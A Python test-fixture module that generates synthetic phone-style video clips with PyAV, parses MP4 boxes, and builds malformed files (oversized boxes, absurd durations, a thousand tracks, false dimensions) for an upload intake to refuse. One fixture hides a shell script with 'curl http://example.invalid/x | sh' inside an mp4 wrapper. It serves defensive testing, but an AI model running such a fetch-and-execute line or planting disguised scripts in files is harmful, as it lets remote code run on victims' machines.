"""Video clips for the tests and the benchmark, made on the spot with PyAV (no binaries
in git): iPhone-like ``.mov`` (HEVC, optionally 10-bit HLG, rotated, with Apple's
``mdta`` location/make/model/creation keys), Android-like ``.mp4`` (H.264 with a
``©xyz`` location), and the hostile shapes the intake must refuse. Plus a reader of
every MP4 box, to check what a served file carries."""

from __future__ import annotations

import io
import struct
from collections.abc import Iterator
from dataclasses import dataclass
from fractions import Fraction
from pathlib import Path

import av
import numpy as np

GPS = "+52.3702+004.8952+000.000/"
MAKE, MODEL = "Apple", "iPhone 15 Pro"
CREATED = "2026-11-23T10:15:00+0100"


def _frame(index: int, width: int, height: int, ten_bit: bool) -> av.VideoFrame:
    """A gradient with a moving bar (something a codec must really encode)."""
    x = np.linspace(0, 255, width, dtype=np.float32)[None, :]
    y = np.linspace(0, 255, height, dtype=np.float32)[:, None]
    rgb = np.empty((height, width, 3), dtype=np.uint8)
    rgb[..., 0] = x.astype(np.uint8)
    rgb[..., 1] = y.astype(np.uint8)
    rgb[..., 2] = ((x + y) / 2).astype(np.uint8)
    bar = (index * 8) % max(1, width - 16)
    rgb[:, bar : bar + 16] = 255
    frame = av.VideoFrame.from_ndarray(rgb, format="rgb24")
    return frame.reformat(format="yuv420p10le" if ten_bit else "yuv420p")


def make_clip(
    path: Path,
    *,
    seconds: float = 1.0,
    width: int = 320,
    height: int = 240,
    fps: int = 30,
    codec: str = "h264",
    hdr: bool = False,
    rotation: int = 0,
    audio: bool = True,
    phone: str | None = "iphone",
    extra_track: bool = False,
    preset: str = "ultrafast",
) -> Path:
    """Write a clip; ``phone`` "iphone" adds Apple's mdta keys (location, make, model,
    creation date), "android" a ``©xyz`` location and a creation time."""
    fmt = "mov" if path.suffix == ".mov" else "mp4"
    options = {"movflags": "use_metadata_tags"} if phone == "iphone" else {}
    with av.open(str(path), "w", format=fmt, options=options) as out:
        if phone == "iphone":
            out.metadata.update(
                {
                    "com.apple.quicktime.location.ISO6709": GPS,
                    "com.apple.quicktime.make": MAKE,
                    "com.apple.quicktime.model": MODEL,
                    "com.apple.quicktime.creationdate": CREATED,
                    "com.apple.quicktime.software": "17.1",
                }
            )
        elif phone == "android":
            out.metadata.update({"location": GPS, "creation_time": "2026-11-23T09:15:00.000000Z"})
        video = out.add_stream("libx265" if codec == "hevc" else "libx264", rate=fps)
        video.width, video.height = width, height
        video.pix_fmt = "yuv420p10le" if hdr else "yuv420p"
        video.options = {"preset": preset, **({"x265-params": "log-level=error"} if codec == "hevc" else {})}
        if hdr:
            cc = video.codec_context
            cc.color_primaries, cc.color_trc, cc.colorspace = 9, 18, 9  # BT.2020, HLG (ARIB STD-B67), BT.2020 NCL
        if rotation:
            video.set_display_rotation(rotation)
        sound = out.add_stream("aac", rate=48000) if audio else None
        if sound is not None:
            sound.layout = "stereo"  # type: ignore[union-attr]
        second = out.add_stream("aac", rate=48000) if extra_track else None  # a commentary, a depth track
        frames = max(1, round(seconds * fps))
        for index in range(frames):
            frame = _frame(index, width, height, hdr)
            frame.pts = index
            frame.time_base = Fraction(1, fps)
            out.mux(video.encode(frame))
        out.mux(video.encode(None))
        if sound is not None:
            samples = round(seconds * 48000)
            tone = (0.2 * np.sin(2 * np.pi * 440 * np.arange(samples) / 48000)).astype(np.float32)
            stereo = np.stack([tone, tone])
            for start in range(0, samples, 1024):
                chunk = av.AudioFrame.from_ndarray(
                    stereo[:, start : start + 1024].copy(), format="fltp", layout="stereo"
                )
                chunk.sample_rate, chunk.pts = 48000, start
                out.mux(sound.encode(chunk))
            out.mux(sound.encode(None))
        if second is not None:
            quiet = av.AudioFrame.from_ndarray(np.zeros((1, 1024), dtype=np.float32), format="fltp", layout="mono")
            quiet.sample_rate, quiet.pts = 48000, 0
            out.mux(second.encode(quiet))
            out.mux(second.encode(None))
    return path


# --- reading boxes ----------------------------------------------------------------

CONTAINERS = {b"moov", b"trak", b"mdia", b"minf", b"stbl", b"udta", b"edts", b"dinf", b"mvex", b"moof", b"traf"}


@dataclass(frozen=True)
class Box:
    path: str  # "moov/trak/tkhd"
    kind: bytes
    payload: bytes


def boxes(data: bytes, prefix: str = "") -> Iterator[Box]:
    """Every box, depth first; ``meta`` is entered too (after its version/flags)."""
    offset = 0
    while offset + 8 <= len(data):
        size, kind = struct.unpack(">I4s", data[offset : offset + 8])
        header = 8
        if size == 1:
            size = struct.unpack(">Q", data[offset + 8 : offset + 16])[0]
            header = 16
        elif size == 0:
            size = len(data) - offset
        if size < header or offset + size > len(data):
            raise ValueError(f"box {kind!r} at {offset} runs past its parent")
        payload = data[offset + header : offset + size]
        name = kind.decode("latin-1")
        path = f"{prefix}/{name}" if prefix else name
        yield Box(path, kind, payload)
        if kind in CONTAINERS:
            yield from boxes(payload, path)
        elif kind == b"meta":
            inner = payload[4:] if payload[4:8] not in (b"hdlr", b"keys") else payload
            yield from boxes(inner, path)
        offset += size


def handler_types(data: bytes) -> list[bytes]:
    return [b.payload[8:12] for b in boxes(data) if b.path.endswith("mdia/hdlr")]


def box_time_fields(data: bytes) -> list[int]:
    """The creation and modification times of every mvhd, tkhd and mdhd."""
    times = []
    for b in boxes(data):
        if b.kind in (b"mvhd", b"tkhd", b"mdhd"):
            version = b.payload[0]
            fmt = ">QQ" if version == 1 else ">II"
            times.extend(struct.unpack(fmt, b.payload[4 : 4 + struct.calcsize(fmt)]))
    return times


# --- hostile shapes ------------------------------------------------------------------


def _replace_box(data: bytes, kind: bytes, new_size: int) -> bytes:
    at = data.index(kind) - 4
    return data[:at] + struct.pack(">I", new_size) + data[at + 4 :]


def absurd_moov(source: bytes) -> bytes:
    """The ``moov`` box claims 4 GB."""
    return _replace_box(source, b"moov", 0xFFFFFFF0)


def absurd_duration(source: bytes) -> bytes:
    """``mvhd`` claims a duration of about 13 years."""
    at = source.index(b"mvhd") + 4
    version = source[at]
    if version == 1:
        raise ValueError("expected a version 0 mvhd")
    timescale_at = at + 4 + 8
    out = bytearray(source)
    out[timescale_at : timescale_at + 8] = struct.pack(">II", 1000, 0xFFFFFFF0)
    return bytes(out)


def truncated(source: bytes) -> bytes:
    return source[: len(source) * 2 // 3]


def script_in_wrapper() -> bytes:
    """An ``ftyp`` that says mp4, then a shell script in an ``mdat``."""
    script = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n" * 20
    ftyp = struct.pack(">I4s4sI", 24, b"ftyp", b"isom", 512) + b"isommp41"
    return ftyp + struct.pack(">I4s", 8 + len(script), b"mdat") + script


def many_tracks(source: bytes, tracks: int = 1000) -> bytes:
    """The clip with its last track copied until the ``moov`` holds ``tracks`` of them (the
    ``moov`` must be the file's last box, as PyAV writes it without ``faststart``)."""
    at = source.rindex(b"moov") - 4
    if at + struct.unpack(">I", source[at : at + 4])[0] != len(source):
        raise ValueError("the moov is not the last box")
    moov = source[at + 8 :]
    traks = [b for b in boxes(moov) if b.path == "trak"]
    last = struct.pack(">I4s", 8 + len(traks[-1].payload), b"trak") + traks[-1].payload
    body = moov + last * (tracks - len(traks))
    return source[:at] + struct.pack(">I4s", 8 + len(body), b"moov") + body


def declared_size(source: bytes, width: int, height: int) -> bytes:
    """Every video ``tkhd`` claims ``width`` x ``height`` (the stream itself is unchanged)."""
    out = bytearray(source)
    start = 0
    while (at := source.find(b"tkhd", start)) >= 0:
        payload = at + 4
        field = payload + (76 if source[payload] == 0 else 88)
        if struct.unpack(">I", source[field : field + 4])[0]:  # a video track has a width
            out[field : field + 8] = struct.pack(">II", width << 16, height << 16)
        start = payload
    return bytes(out)


def read(path: Path) -> bytes:
    return path.read_bytes()


def as_file(data: bytes) -> io.BytesIO:
    return io.BytesIO(data)
